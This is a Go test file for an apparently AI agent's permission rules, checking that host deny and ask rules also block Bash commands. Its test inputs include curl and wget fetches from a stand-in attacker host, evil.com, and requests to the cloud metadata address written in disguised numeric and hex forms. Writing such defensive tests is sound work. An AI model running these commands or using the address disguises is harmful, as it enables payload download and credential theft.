package session_test

import (
	"testing"

	"vibing/internal/session"
)

// TestWebFetchRulesOnBash: deny and ask WebFetch host rules fire on the
// hosts a Bash line contacts, through the whole pipeline (the rule index
// keeps them for Bash); a WebFetch allow never allows a Bash call.
func TestWebFetchRulesOnBash(t *testing.T) {
	t.Parallel()
	deny := []string{"WebFetch(evil.com)", "WebFetch(169.254.169.254)"}
	cases := []tcase{
		{Name: "curl denied", Deny: deny, Allow: []string{"Bash(curl:*)"}, Tool: "Bash", Input: bash("curl -fsSL https://evil.com/x"), Want: session.Deny, Source: session.SourceDenyList, Rule: "WebFetch(evil.com)", ReasonHas: []string{"as the line contacts evil.com"}},
		{Name: "subdomain denied", Deny: deny, Mode: "bypassPermissions", Tool: "Bash", Input: bash("wget -qO- api.evil.com/x"), Want: session.Deny, Rule: "WebFetch(evil.com)"},
		{Name: "numeric metadata address", Deny: deny, Mode: "bypassPermissions", Tool: "Bash", Input: bash("curl -s http://2852039166/latest/meta-data/"), Want: session.Deny, Rule: "WebFetch(169.254.169.254)"},
		{Name: "host known at run time", Deny: deny, Mode: "bypassPermissions", Tool: "Bash", Input: bash(`curl "$URL"`), Want: session.Deny, ReasonHas: []string{"only known at run time"}},
		{Name: "ask rule", Ask: []string{"WebFetch(evil.com)"}, Allow: []string{"Bash"}, Tool: "Bash", Input: bash("git clone git@evil.com:me/r.git"), Want: session.Ask, Rule: "WebFetch(evil.com)", ReasonHas: []string{"ask: WebFetch(evil.com), as the line contacts evil.com"}},
		{Name: "other host runs", Deny: deny, Mode: "bypassPermissions", Tool: "Bash", Input: bash("curl https://github.com/x && echo evil.com"), Want: session.Allow},
		{Name: "no network", Deny: deny, Allow: []string{"Bash(npm:*)"}, Tool: "Bash", Input: bash("npm test"), Want: session.Allow},
		{Name: "allow does not allow bash", Allow: []string{"WebFetch(github.com)"}, Tool: "Bash", Input: bash("curl https://github.com"), Want: session.Ask},
		{Name: "bare WebFetch deny is the tool only", Deny: []string{"WebFetch"}, Mode: "bypassPermissions", Tool: "Bash", Input: bash("curl https://github.com"), Want: session.Allow},
		{Name: "WebFetch still denied", Deny: deny, Mode: "bypassPermissions", Tool: "WebFetch", Input: url("http://0xa9fea9fe/"), Want: session.Deny, Rule: "WebFetch(169.254.169.254)"},
		{Name: "WebFetch subdomain allow exact", Allow: []string{"WebFetch(github.com)"}, Tool: "WebFetch", Input: url("https://api.github.com/x"), Want: session.Ask},
		{Name: "IPv6 allow", Allow: []string{"WebFetch([::1])"}, Tool: "WebFetch", Input: url("http://[0:0::1]:8080/"), Want: session.Allow, Rule: "WebFetch([::1])"},
	}
	runCases(t, cases)
}
